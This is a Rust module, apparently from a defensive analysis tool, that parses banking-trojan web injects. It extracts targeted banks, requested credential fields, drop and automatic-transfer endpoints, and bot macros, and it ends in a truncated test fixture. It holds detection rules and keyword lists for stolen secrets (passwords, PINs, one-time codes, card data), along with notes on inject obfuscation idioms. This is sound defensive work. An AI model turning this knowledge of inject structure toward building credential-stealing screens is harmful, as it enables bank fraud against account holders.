//! What a set of injects tells: targets, what the fake screen asks for, and where stolen data goes.
//!
//! Per entry, the analysis finds:
//! - the institution the URL mask targets (through the registry), or none (a candidate for the
//!   registry), and whether the entry grabs (`L`) or injects;
//! - the fields the fake screen asks for, from each form control's `name`/`id`/`placeholder`
//!   and the visible label before it, in English and Japanese (`合言葉`, `第二暗証番号`,
//!   `乱数表`, `ワンタイムパスワード`, `暗証番号`, `秘密の質問`, ...);
//! - the external endpoints of the injected HTML/JS: `src`, `action`, XHR/`fetch`/`$.ajax`/
//!   `$.post`/`$.get`, WebSocket, beacons, protocol-relative URLs, bare `IP:port`, and URLs
//!   assembled from string pieces (`'<scr'+'ipt src=...'`, `home_link + "/gate.php"`), each
//!   classified as drop, ATS panel, script host, benign CDN (allow-list) or the institution's own
//!   site; plus the endpoints a format declares itself (TrickBot `<hl>`/`<srv>`/`<handler>`,
//!   Dridex redirects);
//! - signs of automatic transfer (ATS): transfer forms filled and submitted by script, balances
//!   rewritten;
//! - bot macros (`%BOTID%`, `%BOTNET%`, `%BOT_ID%`, `@ID@`, `@GROUP@`) that join drop records to bots.
//!
//! Every scan is a constant number of linear passes over a block; the variable table used to
//! resolve assembled URLs is capped.

use std::borrow::Cow;
use std::collections::HashMap;

use dropwatch_masks::{host_in_domain, host_of, InstitutionIndex};
use dropwatch_model::{classify_field_name, Inject, InjectFormat, SecretKind};
use serde::Serialize;

/// Hosts that injects load common libraries from; they are never indicators.
pub const BENIGN_HOSTS: &[&str] = &[
    "ajax.googleapis.com",
    "code.jquery.com",
    "cdnjs.cloudflare.com",
    "cdn.jsdelivr.net",
    "unpkg.com",
    "ajax.aspnetcdn.com",
    "www.w3.org",
    "w3.org",
    "schemas.microsoft.com",
    "www.google-analytics.com",
    "fonts.googleapis.com",
];

/// Bot macros that the bot replaces before injecting; their presence ties records to bots.
pub const BOT_MACROS: &[&str] = &["%BOTID%", "%BOTNET%", "%BOT_ID%", "@ID@", "@GROUP@"];

/// Most variables remembered per block when resolving assembled URLs.
const MAX_VARIABLES: usize = 256;
/// Longest label text kept for a form field.
const MAX_LABEL_CHARS: usize = 60;

/// What an external URL in an inject is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EndpointClass {
    /// Stolen data is sent here (form action, XHR, beacon, a dynamic panel script).
    Drop,
    /// An automatic-transfer panel: a drop in an entry that shows ATS behaviour.
    AtsPanel,
    /// Static script the inject loads from a criminal host.
    ScriptHost,
    /// A benign public CDN or standards host (allow-listed).
    Benign,
    /// The targeted institution's own site (or another registry institution's).
    InstitutionSite,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Endpoint {
    pub url: String,
    pub host: String,
    pub class: EndpointClass,
    /// How it was found: `src`, `action`, `xhr`, `websocket`, `beacon`, `assembled`, `declared`, `text`.
    pub via: &'static str,
    /// Index of the inject entry it was found in.
    pub entry: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Target {
    pub url_mask: String,
    pub flags: String,
    /// `None` when no registry institution matches: a candidate to add to the registry.
    pub institution_id: Option<String>,
    pub grab: bool,
}

/// What a fake-screen field asks for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum FieldKind {
    Password,
    Pin,
    /// One-time password, TAN, or a grid-card (`乱数表`) value.
    OneTimeCode,
    CardNumber,
    Cvv,
    Expiry,
    SecretQuestion,
    SecretAnswer,
    NationalId,
    DateOfBirth,
    Phone,
    Email,
    MothersMaidenName,
    AccountNumber,
    Username,
}

impl FieldKind {
    pub fn as_str(self) -> &'static str {
        match self {
            FieldKind::Password => "password",
            FieldKind::Pin => "pin",
            FieldKind::OneTimeCode => "one_time_code",
            FieldKind::CardNumber => "card_number",
            FieldKind::Cvv => "cvv",
            FieldKind::Expiry => "expiry",
            FieldKind::SecretQuestion => "secret_question",
            FieldKind::SecretAnswer => "secret_answer",
            FieldKind::NationalId => "national_id",
            FieldKind::DateOfBirth => "date_of_birth",
            FieldKind::Phone => "phone",
            FieldKind::Email => "email",
            FieldKind::MothersMaidenName => "mothers_maiden_name",
            FieldKind::AccountNumber => "account_number",
            FieldKind::Username => "username",
        }
    }

    /// The secret kind a field of this kind exposes, if it is a secret.
    pub fn secret_kind(self) -> Option<SecretKind> {
        match self {
            FieldKind::Password => Some(SecretKind::Password),
            FieldKind::Pin => Some(SecretKind::Pin),
            FieldKind::OneTimeCode => Some(SecretKind::OneTimeCode),
            FieldKind::CardNumber => Some(SecretKind::CardNumber),
            FieldKind::Cvv => Some(SecretKind::Cvv),
            FieldKind::SecretAnswer | FieldKind::MothersMaidenName => {
                Some(SecretKind::SecretAnswer)
            }
            _ => None,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AskedField {
    /// The control's `name` (or `id`), as written.
    pub name: String,
    /// The visible label before it, if any.
    pub label: Option<String>,
    pub kind: FieldKind,
    pub entry: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub entry: usize,
    pub what: String,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct InjectAnalysis {
    pub targets: Vec<Target>,
    pub endpoints: Vec<Endpoint>,
    pub fields: Vec<AskedField>,
    /// Signs of automatic transfers.
    pub ats_signs: Vec<Finding>,
    /// Bot macros used.
    pub macros: Vec<Finding>,
}

impl InjectAnalysis {
    /// Distinct institutions targeted, sorted.
    pub fn institutions(&self) -> Vec<String> {
        let mut ids: Vec<String> = self
            .targets
            .iter()
            .filter_map(|t| t.institution_id.clone())
            .collect();
        ids.sort();
        ids.dedup();
        ids
    }

    /// Distinct endpoint URLs of one class, sorted.
    pub fn endpoints_of(&self, class: EndpointClass) -> Vec<String> {
        let mut urls: Vec<String> = self
            .endpoints
            .iter()
            .filter(|e| e.class == class)
            .map(|e| e.url.clone())
            .collect();
        urls.sort();
        urls.dedup();
        urls
    }

    /// Distinct field kinds asked for, sorted.
    pub fn field_kinds(&self) -> Vec<FieldKind> {
        let mut kinds: Vec<FieldKind> = self.fields.iter().map(|f| f.kind).collect();
        kinds.sort();
        kinds.dedup();
        kinds
    }
}

/// Analyses parsed injects against an institution registry, reading blocks as UTF-8 (lossy).
pub fn analyze(injects: &[Inject], index: &InstitutionIndex) -> InjectAnalysis {
    analyze_with(injects, index, &|b: &[u8]| String::from_utf8_lossy(b))
}

/// Analyses parsed injects, decoding block bytes with `decode` (the file's detected charset).
pub fn analyze_with(
    injects: &[Inject],
    index: &InstitutionIndex,
    decode: &dyn Fn(&[u8]) -> Cow<'_, str>,
) -> InjectAnalysis {
    let mut out = InjectAnalysis::default();
    for (entry, inject) in injects.iter().enumerate() {
        if inject.flags.is_empty() {
            // An exclusion (TinyNuke `fg_blacklist`, a Dridex deny list): not a target.
            continue;
        }
        let institution = index.lookup_mask(&inject.url_mask);
        let own: &[String] = institution.map_or(&[], |i| i.domains.as_slice());
        out.targets.push(Target {
            url_mask: inject.url_mask.clone(),
            flags: inject.flags.clone(),
            institution_id: institution.map(|i| i.id.clone()),
            grab: inject.is_grab(),
        });
        let declared_class = match inject.format {
            InjectFormat::TrickbotDinj => EndpointClass::ScriptHost,
            _ => EndpointClass::Drop,
        };
        for url in &inject.endpoints {
            let url = if url.contains("://") {
                url.clone()
            } else {
                format!("http://{url}")
            };
            if let Some(host) = host_of(&url) {
                let class = classify_host(&url, &host, index, own).unwrap_or(declared_class);
                push_endpoint(
                    &mut out.endpoints,
                    Endpoint {
                        url,
                        host,
                        class,
                        via: "declared",
                        entry,
                    },
                );
            }
        }
        if inject.is_grab() {
            // With `L` the inject block is only a label placed before the grabbed text, not HTML;
            // the anchors around the grabbed text name the fields it captures.
            for block in &inject.blocks {
                for anchor in [&block.before, &block.after] {
                    for name in find_name_attributes(&decode(anchor)) {
                        if let Some(kind) = classify_field(&name, None) {
                            let tail_start = out
                                .fields
                                .iter()
                                .rposition(|f| f.entry != entry)
                                .map_or(0, |i| i + 1);
                            if !out.fields[tail_start..].iter().any(|f| f.name == name) {
                                out.fields.push(AskedField {
                                    name,
                                    label: Some("grabbed".into()),
                                    kind,
                                    entry,
                                });
                            }
                        }
                    }
                }
            }
            continue;
        }
        let mut entry_text = String::new();
        for block in &inject.blocks {
            let text = decode(&block.inject);
            entry_text.push_str(&text);
            entry_text.push('\n');
        }
        let ats = ats_signs(&entry_text);
        for sign in &ats {
            out.ats_signs.push(Finding {
                entry,
                what: (*sign).to_string(),
            });
        }
        for m in BOT_MACROS {
            if entry_text.contains(m) {
                out.macros.push(Finding {
                    entry,
                    what: (*m).to_string(),
                });
            }
        }
        for found in find_endpoints(&entry_text) {
            let Some(host) = host_of(&found.url) else {
                continue;
            };
            let class = classify_host(&found.url, &host, index, own)
                .unwrap_or_else(|| classify_use(&found, !ats.is_empty()));
            push_endpoint(
                &mut out.endpoints,
                Endpoint {
                    url: found.url,
                    host,
                    class,
                    via: found.via,
                    entry,
                },
            );
        }
        for (name, label, password_type) in find_controls(&entry_text) {
            let kind = classify_field(&name, label.as_deref())
                .or(password_type.then_some(FieldKind::Password));
            if let Some(kind) = kind {
                let tail_start = out
                    .fields
                    .iter()
                    .rposition(|f| f.entry != entry)
                    .map_or(0, |i| i + 1);
                if !out.fields[tail_start..].iter().any(|f| f.name == name) {
                    out.fields.push(AskedField {
                        name,
                        label,
                        kind,
                        entry,
                    });
                }
            }
        }
    }
    out
}

/// Adds an endpoint unless the same entry already has it. Endpoints of one entry are contiguous
/// at the end of the list, so only that tail is searched: no quadratic cost over a file.
fn push_endpoint(list: &mut Vec<Endpoint>, e: Endpoint) {
    let tail_start = list
        .iter()
        .rposition(|x| x.entry != e.entry)
        .map_or(0, |i| i + 1);
    if !list[tail_start..].iter().any(|x| x.url == e.url) {
        list.push(e);
    }
}

/// Classes decided by the host alone: allow-listed or an institution's own.
fn classify_host(
    url: &str,
    host: &str,
    index: &InstitutionIndex,
    own: &[String],
) -> Option<EndpointClass> {
    if BENIGN_HOSTS.iter().any(|b| host_in_domain(host, b)) {
        return Some(EndpointClass::Benign);
    }
    if own.iter().any(|d| host_in_domain(host, d)) || index.lookup_url(url).is_some() {
        return Some(EndpointClass::InstitutionSite);
    }
    None
}

/// Classifies a criminal host's URL by how the inject uses it.
fn classify_use(found: &FoundUrl, entry_has_ats: bool) -> EndpointClass {
    let path = url_path(&found.url);
    let static_asset = path.ends_with(".js") || path.ends_with(".css");
    let sends = matches!(found.via, "action" | "xhr" | "websocket" | "beacon");
    if static_asset && !sends {
        return EndpointClass::ScriptHost;
    }
    // Anything else on a criminal host receives data or serves the panel's dynamic script
    // (`<script src=".../groups/_.php?r=0">`): the drop, or the ATS panel when the entry moves money.
    let panel_path = path.contains("/ats")
        || path.contains("ats.php")
        || path.contains("/adm")
        || path.contains("/panel");
    if entry_has_ats || panel_path {
        EndpointClass::AtsPanel
    } else {
        EndpointClass::Drop
    }
}

fn url_path(url: &str) -> String {
    let lower = url.to_ascii_lowercase();
    let rest = lower.split_once("://").map_or(lower.as_str(), |(_, r)| r);
    let path = rest.find('/').map_or("", |i| &rest[i..]);
    path.split(['?', '#']).next().unwrap_or("").to_string()
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct FoundUrl {
    url: String,
    via: &'static str,
}

/// Joins adjacent string literals (`'<scr'+'ipt'` → `'<script'`), linearly.
fn join_literals(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'\'' || c == b'"' {
            // Look for: quote, blanks, '+', blanks, the same quote.
            let mut j = i + 1;
            while j < b.len() && (b[j] == b' ' || b[j] == b'\t' || b[j] == b'\r' || b[j] == b'\n') {
                j += 1;
            }
            if j < b.len() && b[j] == b'+' {
                let mut k = j + 1;
                while k < b.len()
                    && (b[k] == b' ' || b[k] == b'\t' || b[k] == b'\r' || b[k] == b'\n')
                {
                    k += 1;
                }
                if k < b.len() && b[k] == c {
                    i = k + 1;
                    continue;
                }
            }
        }
        out.push(c);
        i += 1;
    }
    String::from_utf8(out).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'.'
}

/// The context words before a URL (or a variable use) that say what the inject does with it.
fn use_of(before: &str) -> &'static str {
    let ctx = before.to_ascii_lowercase();
    let tail = |n: usize| &ctx[ctx.len().saturating_sub(n)..];
    let near = tail(48);
    if near.contains("websocket(") {
        "websocket"
    } else if near.contains("sendbeacon(")
        || near.contains("new image")
        || near.contains(".src=")
        || near.contains(".src =")
    {
        "beacon"
    } else if near.contains("action=") || near.contains("action =") || near.contains(".action") {
        "action"
    } else if near.contains("$.post(")
        || near.contains("$.ajax(")
        || near.contains("$.get(")
        || near.contains("fetch(")
        || near.contains(".open(")
        || near.contains("url:")
        || near.contains("url :")
        || near.contains("jquery.post(")
        || near.contains("jquery.ajax(")
    {
        "xhr"
    } else if near.contains("getscript(")
        || tail(24).contains("src=")
        || tail(24).contains("src =")
        || tail(24).contains("href=")
    {
        "src"
    } else {
        "text"
    }
}

/// Finds the URLs an entry's HTML/JS refers to, with how each is used.
fn find_endpoints(raw: &str) -> Vec<FoundUrl> {
    let text = join_literals(raw);
    let mut out: Vec<FoundUrl> = Vec::new();
    let mut push = |url: String, via: &'static str| {
        if let Some(existing) = out.iter_mut().find(|f| f.url == url) {
            // A use that sends data outranks a mere mention.
            if existing.via == "text" || existing.via == "src" && via != "text" {
                existing.via = via;
            }
        } else {
            out.push(FoundUrl { url, via });
        }
    };

    // `src="some_domain.com/some.js"`: a host without a scheme in a src or action attribute.
    for (via, attr_name) in [("src", &b"src="[..]), ("action", &b"action="[..])] {
        for at in memchr::memmem::find_iter(text.as_bytes(), attr_name) {
            let value_start = at + attr_name.len();
            let rest = &text[value_start..];
            let (quote, rest) = match rest.chars().next() {
                Some(q @ ('"' | '\'')) => (Some(q), &rest[1..]),
                _ => (None, rest),
            };
            let value = rest
                .split(|c: char| Some(c) == quote || c.is_whitespace() || c == '>')
                .next()
                .unwrap_or("");
            if let Some(url) = schemeless_url(value) {
                push(url, via);
            }
        }
    }

    // Variables holding URLs, and their uses.
    let mut vars: HashMap<String, String> = HashMap::new();
    for (start, end, url) in scan_urls(&text) {
        // `name = "url"` or `name: "url"` just before?
        let before = &text[..start];
        let trimmed = before.trim_end_matches(['"', '\'']).trim_end();
        if let Some(lhs) = trimmed
            .strip_suffix('=')
            .or_else(|| trimmed.strip_suffix(':'))
        {
            let lhs = lhs.trim_end();
            let name_start = lhs
                .bytes()
                .rposition(|b| !is_ident_byte(b))
                .map_or(0, |i| i + 1);
            let name = &lhs[name_start..];
            if !name.is_empty()
                && !name.eq_ignore_ascii_case("src")
                && !name.eq_ignore_ascii_case("action")
                && vars.len() < MAX_VARIABLES
            {
                let name = name.rsplit('.').next().unwrap_or(name);
                vars.entry(name.to_string()).or_insert_with(|| url.clone());
            }
        }
        let _ = end;
        push(url, use_of(before));
    }
    // Uses of URL variables: `name + "/path"` assembles a URL; `$.post(name` sends to it.
    if !vars.is_empty() {
        let bytes = text.as_bytes();
        let mut i = 0;
        while i < bytes.len() {
            if !is_ident_byte(bytes[i]) || (i > 0 && is_ident_byte(bytes[i - 1])) {
                i += 1;
                continue;
            }
            let start = i;
            while i < bytes.len() && is_ident_byte(bytes[i]) {
                i += 1;
            }
            let ident = &text[start..i];
            let name = ident.rsplit('.').next().unwrap_or(ident);
            let Some(base) = vars.get(name) else { continue };
            let rest = text[i..].trim_start();
            if rest.starts_with('=') && !rest.starts_with("==") {
                continue;
            }
            let via = use_of(&text[..start]);
            if let Some(after_plus) = rest.strip_prefix('+') {
                let after_plus = after_plus.trim_start();
                if let Some(q) = after_plus
                    .chars()
                    .next()
                    .filter(|c| *c == '"' || *c == '\'')
                {
                    if let Some(end) = after_plus[1..].find(q) {
                        let piece = &after_plus[1..1 + end];
                        if !piece.contains(['<', '>', ' ']) {
                            let joined = format!(
                                "{}{}",
                                base.trim_end_matches('/'),
                                if piece.starts_with('/') {
                                    piece.to_string()
                                } else {
                                    format!("/{piece}")
                                }
                            );
                            push(joined, if via == "text" { "assembled" } else { via });
                            continue;
                        }
                    }
                }
            }
            if via != "text" {
                push(base.clone(), via);
            }
        }
    }
    out
}

/// Finds absolute (`http`, `https`, `ws`, `wss`), protocol-relative and bare `IPv4:port` URLs;
/// returns (start, end, url) with `//host` turned into `https://host`, in text order.
///
/// Only the places that can start a URL are visited: each `//` (found with a fast substring
/// search) and each `:` between digits, so the scan costs little more than a memchr pass.
fn scan_urls(text: &str) -> Vec<(usize, usize, String)> {
    let b = text.as_bytes();
    let mut starts: Vec<(usize, usize, &'static str)> = Vec::new(); // (url start, host start, scheme to add)
    for slashes in memchr::memmem::find_iter(b, b"//") {
        let before = &b[..slashes];
        let scheme = ["https:", "http:", "wss:", "ws:"].into_iter().find(|p| {
            before.len() >= p.len()
                && before[before.len() - p.len()..].eq_ignore_ascii_case(p.as_bytes())
        });
        if let Some(p) = scheme {
            let start = slashes - p.len();
            if start == 0 || !b[start - 1].is_ascii_alphanumeric() {
                starts.push((start, slashes + 2, ""));
            }
        } else if slashes > 0
            && matches!(b[slashes - 1], b'"' | b'\'' | b'=' | b'(')
            && b.get(slashes + 2)
                .is_some_and(|c| c.is_ascii_alphanumeric())
        {
            starts.push((slashes, slashes + 2, "https:"));
        }
    }
    for colon in memchr::memchr_iter(b':', b) {
        if colon == 0
            || !b[colon - 1].is_ascii_digit()
            || !b.get(colon + 1).is_some_and(u8::is_ascii_digit)
        {
            continue;
        }
        let start = b[..colon]
            .iter()
            .rposition(|c| !(c.is_ascii_digit() || *c == b'.'))
            .map_or(0, |i| i + 1);
        if (start == 0 || matches!(b[start - 1], b'"' | b'\'' | b'=' | b'(' | b' ' | b'/'))
            && !(start >= 2 && &b[start - 2..start] == b"//")
            && bare_ip_port(&b[start..]).is_some()
        {
            starts.push((start, start, "http://"));
        }
    }
    starts.sort_unstable();
    let mut out = Vec::new();
    let mut next_free = 0;
    for (start, host_start, add_scheme) in starts {
        if start < next_free {
            continue;
        }
        let end = b[start..]
            .iter()
            .position(|&c| {
                c.is_ascii_whitespace()
                    || matches!(
                        c,
                        b'"' | b'\''
                            | b'<'
                            | b'>'
                            | b')'
                            | b'('
                            | b';'
                            | b'`'
                            | b','
                            | b'\\'
                            | b'{'
                            | b'}'
                    )
            })
            .map_or(b.len(), |i| start + i);
        if end > host_start {
            out.push((
                start,
                end,
                format!("{add_scheme}{}", String::from_utf8_lossy(&b[start..end])),
            ));
            next_free = end;
        }
    }
    out
}

/// `host.tld/path` (no scheme) as an `http://` URL, when the first segment is a plausible host.
fn schemeless_url(value: &str) -> Option<String> {
    let (host, _) = value.split_once('/')?;
    let labels: Vec<&str> = host.split('.').collect();
    let tld = labels.last()?;
    let plausible = labels.len() >= 2
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
        && tld.len() >= 2
        && tld.bytes().all(|b| b.is_ascii_alphabetic())
        && !matches!(
            tld.to_ascii_lowercase().as_str(),
            "js" | "css" | "php" | "html" | "htm" | "asp" | "aspx" | "jsp" | "gif" | "png" | "jpg"
        );
    plausible.then(|| format!("http://{value}"))
}

/// Values of `name=` attributes anywhere in a text (grab anchors are fragments, not whole tags).
fn find_name_attributes(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for at in memchr::memmem::find_iter(text.as_bytes(), b"name=") {
        if at > 0 && text.as_bytes()[at - 1].is_ascii_alphanumeric() {
            continue;
        }
        let rest = &text[at + 5..];
        let value = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => rest[1..].split(q).next().unwrap_or(""),
            _ => rest
                .split(|c: char| c.is_whitespace() || c == '>' || c == '*')
                .next()
                .unwrap_or(""),
        };
        if !value.is_empty() && value.len() <= 64 && !out.iter().any(|v| v == value) {
            out.push(value.to_string());
        }
    }
    out
}

/// `a.b.c.d:port` at the start of `s`.
fn bare_ip_port(s: &[u8]) -> Option<usize> {
    let end = s
        .iter()
        .position(|c| !(c.is_ascii_digit() || *c == b'.' || *c == b':'))
        .unwrap_or(s.len());
    let token = std::str::from_utf8(&s[..end]).ok()?;
    let (ip, port) = token.split_once(':')?;
    ip.parse::<std::net::Ipv4Addr>().ok()?;
    port.parse::<u16>().ok().filter(|p| *p > 0)?;
    Some(end)
}

/// Form controls (`input`, `select`, `textarea`) with their name and the visible text before them.
/// Returns (name, label, is a password-type input).
fn find_controls(text: &str) -> Vec<(String, Option<String>, bool)> {
    let mut out = Vec::new();
    let mut last_text: Option<String> = None;
    let mut i = 0;
    let lower = text.to_ascii_lowercase();
    while let Some(lt) = text[i..].find('<') {
        let tag_start = i + lt;
        let between = strip_entities(text[i..tag_start].trim());
        if between.chars().any(|c| c.is_alphanumeric()) {
            last_text = Some(between.chars().take(MAX_LABEL_CHARS).collect());
        }
        let Some(gt) = text[tag_start..].find('>') else {
            break;
        };
        let tag_end = tag_start + gt + 1;
        let tag_lower = &lower[tag_start..tag_end];
        let tag = &text[tag_start..tag_end];
        let is_control = ["<input", "<select", "<textarea"]
            .iter()
            .any(|t| tag_lower.starts_with(t));
        if is_control {
            let ty = attr(tag, "type").unwrap_or_default().to_ascii_lowercase();
            if !matches!(
                ty.as_str(),
                "hidden" | "submit" | "button" | "image" | "reset"
            ) {
                let name = attr(tag, "name")
                    .or_else(|| attr(tag, "id"))
                    .unwrap_or_default();
                let placeholder = attr(tag, "placeholder");
                let label = placeholder.or_else(|| last_text.clone());
                let name = if name.is_empty() && ty == "password" {
                    "password".to_string()
                } else {
                    name
                };
                if !name.is_empty() && name.len() <= 64 {
                    out.push((name, label, ty == "password"));
                }
            }
            last_text = None;
        } else if tag_lower.starts_with("<script") {
            // Script bodies are not labels.
            if let Some(end) = lower[tag_end..].find("</script") {
                i = tag_end + end;
                continue;
            }
        }
        i = tag_end;
    }
    out
}

fn strip_entities(s: &str) -> String {
    s.replace("&nbsp;", " ")
        .replace("&#160;", " ")
        .trim()
        .trim_end_matches([':', '：'])
        .trim()
        .to_string()
}

/// The value of an attribute in one tag, quoted or not.
fn attr(tag: &str, name: &str) -> Option<String> {
    let lower = tag.to_ascii_lowercase();
    let mut from = 0;
    while let Some(at) = lower[from..].find(name) {
        let start = from + at;
        from = start + name.len();
        if start == 0 || !lower.as_bytes()[start - 1].is_ascii_whitespace() {
            continue;
        }
        let rest = tag[start + name.len()..].trim_start();
        let Some(rest) = rest.strip_prefix('=') else {
            continue;
        };
        let rest = rest.trim_start();
        let value = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => rest[1..].split(q).next().unwrap_or(""),
            _ => rest
                .split(|c: char| c.is_whitespace() || c == '>' || c == '/')
                .next()
                .unwrap_or(""),
        };
        return Some(value.to_string());
    }
    None
}

/// Keyword rules for labels, checked in order (more specific first).
const LABEL_RULES: &[(&[&str], FieldKind)] = &[
    (
        &[
            "ワンタイム",
            "one-time",
            "one time",
            "onetime",
            "otp",
            "tan",
            "確認番号",
            "認証番号",
            "sms code",
            "sms-code",
        ],
        FieldKind::OneTimeCode,
    ),
    (&["乱数表", "grid card", "乱数"], FieldKind::OneTimeCode),
    (
        &["秘密の質問の答", "質問の答", "回答", "answer", "合言葉"],
        FieldKind::SecretAnswer,
    ),
    (
        &["秘密の質問", "secret question", "security question"],
        FieldKind::SecretQuestion,
    ),
    (
        &["母親の旧姓", "maiden name", "maiden"],
        FieldKind::MothersMaidenName,
    ),
    (
        &[
            "セキュリティコード",
            "cvv",
            "cvc",
            "security code",
            "card verification",
        ],
        FieldKind::Cvv,
    ),
    (
        &[
            "有効期限",
            "expiry",
            "expiration",
            "exp. date",
            "valid thru",
        ],
        FieldKind::Expiry,
    ),
    (
        &["カード番号", "card number", "card no", "クレジットカード"],
        FieldKind::CardNumber,
    ),
    (&["第二暗証番号", "暗証番号", "pin", "暗証"], FieldKind::Pin),
    (
        &[
            "パスワード",
            "password",
            "passwort",
            "contraseña",
            "mot de passe",
            "hasło",
            "passcode",
        ],
        FieldKind::Password,
    ),
    (
        &[
            "生年月日",
            "date of birth",
            "birth date",
            "birthdate",
            "birthday",
            "geburtsdatum",
            "fecha de nacimiento",
        ],
        FieldKind::DateOfBirth,
    ),
    (
        &[
            "マイナンバー",
            "social security",
            "ssn",
            "national id",
            "dni",
            "nie",
            "pesel",
            "nif",
            "tax id",
        ],
        FieldKind::NationalId,
    ),
    (
        &["電話番号", "携帯", "phone", "mobile", "teléfono", "telefon"],
        FieldKind::Phone,
    ),
    (
        &["メールアドレス", "e-mail", "email", "メール"],
        FieldKind::Email,
    ),
    (
        &[
            "口座番号",
            "account number",
            "account no",
            "kontonummer",
            "iban",
        ],
        FieldKind::AccountNumber,
    ),
    (
        &[
            "お客様番号",
            "契約者番号",
            "ログインid",
            "user id",
            "username",
            "user name",
            "login id",
            "usuario",
            "benutzername",
        ],
        FieldKind::Username,
    ),
];

/// Extra name rules beyond the secret classifier shared with record analysis.
const NAME_RULES: &[(&[&str], FieldKind)] = &[
    (&["securitykey", "question"], FieldKind::SecretQuestion),
    (&["maiden", "mmn"], FieldKind::MothersMaidenName),
    (
        &["expir", "expdate", "expmonth", "expyear", "ccexp"],
        FieldKind::Expiry,
    ),
    (
        &["birthdate", "birthday", "dateofbirth", "dob", "bday"],
        FieldKind::DateOfBirth,
    ),
    (
        &["ssn", "mynumber", "nationalid", "dni", "pesel"],
        FieldKind::NationalId,
    ),
    (&["phone", "mobile", "tel"], FieldKind::Phone),
    (&["email", "mail"], FieldKind::Email),
    (
        &["accountno", "accountnumber", "kouza", "iban"],
        FieldKind::AccountNumber,
    ),
    (
        &[
            "userid",
            "username",
            "login",
            "user",
            "customerid",
            "keiyaku",
        ],
        FieldKind::Username,
    ),
];

/// Classifies a form control by its label first (the text the victim reads), then its name.
pub fn classify_field(name: &str, label: Option<&str>) -> Option<FieldKind> {
    if let Some(label) = label {
        let l = label.to_lowercase();
        for (words, kind) in LABEL_RULES {
            if words.iter().any(|w| contains_word(&l, w)) {
                return Some(*kind);
            }
        }
    }
    if let Some(kind) = classify_field_name(name) {
        return Some(match kind {
            SecretKind::Password => FieldKind::Password,
            SecretKind::Pin => FieldKind::Pin,
            SecretKind::OneTimeCode => FieldKind::OneTimeCode,
            SecretKind::CardNumber => FieldKind::CardNumber,
            SecretKind::Cvv => FieldKind::Cvv,
            SecretKind::SecretAnswer => FieldKind::SecretAnswer,
        });
    }
    let n: String = name
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_lowercase())
        .collect();
    if n.ends_with("ans") && n.len() > 3 {
        // `securityKey1Ans`, `q1ans`: the answer to a security question.
        return Some(FieldKind::SecretAnswer);
    }
    NAME_RULES
        .iter()
        .find(|(words, _)| words.iter().any(|w| n.contains(w)))
        .map(|(_, k)| *k)
}

/// Substring match; short ASCII keywords must stand as words (`tan` is not in `important`).
fn contains_word(hay: &str, word: &str) -> bool {
    if !word.is_ascii() || word.len() > 4 {
        return hay.contains(word);
    }
    let hb = hay.as_bytes();
    let mut from = 0;
    while let Some(at) = hay[from..].find(word) {
        let s = from + at;
        let e = s + word.len();
        let before_ok = s == 0 || !hb[s - 1].is_ascii_alphanumeric();
        let after_ok = e >= hb.len() || !hb[e].is_ascii_alphanumeric();
        if before_ok && after_ok {
            return true;
        }
        from = s + 1;
    }
    false
}

/// Signs that an entry moves money by itself (ATS) rather than only stealing credentials.
fn ats_signs(text: &str) -> Vec<&'static str> {
    let l = text.to_lowercase();
    let has = |words: &[&str]| words.iter().any(|w| l.contains(w));
    let mut signs = Vec::new();
    let transfer = has(&[
        "transfer",
        "überweisung",
        "transferencia",
        "virement",
        "przelew",
        "振込",
        "振替",
        "送金",
        "beneficiary",
        "payee",
        "iban",
    ]);
    let scripted = has(&[".submit()", ".click()", ".val(", ".value=", ".value ="]);
    if transfer && scripted {
        signs.push("transfer form filled or submitted by script");
    }
    let balance = has(&["balance", "残高", "saldo", "kontostand", "solde"]);
    let rewrites = has(&["innerhtml", ".html(", ".text(", "textcontent", "replace("]);
    if balance && rewrites {
        signs.push("balance display rewritten");
    }
    if has(&[
        "/ats/",
        "ats.php",
        "ats_",
        "atsengine",
        "automatic transfer",
        "auto_transfer",
        "autotransfer",
    ]) {
        signs.push("ATS engine referenced");
    }
    if has(&["mule", "drop_account", "dropaccount"]) {
        signs.push("mule account referenced");
    }
    signs
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::zeus::{parse_zeus, Mode};
    use dropwatch_model::{InjectBlock, Institution};

    fn index() -> InstitutionIndex {
        InstitutionIndex::new(vec![Institution {
            id: "jp-a".into(),
            name: "A Bank".into(),
            country: "JP".into(),
            domains: vec!["a-bank.example".into()],
            url_masks: vec![],
            account_fields: vec![],
        }])
    }

    fn entry(inject: &str) -> Inject {
        Inject {
            url_mask: "https://ib.a-bank.example/*".into(),
            flags: "GP".into(),
            blocks: vec![InjectBlock {
                before: b"<body>".to_vec(),
                inject: inject.as_bytes().to_vec(),
                after: vec![],
            }],
            ..Inject::default()
        }
    }

    #[test]
    fn finds_targets_fields_and_endpoints() {
        let src = "set_url https://ib.a-bank.example/login* GP\r\ndata_before\r\n<form*>\r\ndata_end\r\ndata_inject\r\n\
<input type=password name=\"ansho_pin\"><input name='otp'>\r\n\
<script src=\"https://ajax.googleapis.com/ajax/libs/jquery/1.7.2/jquery.min.js\"></script>\r\n\
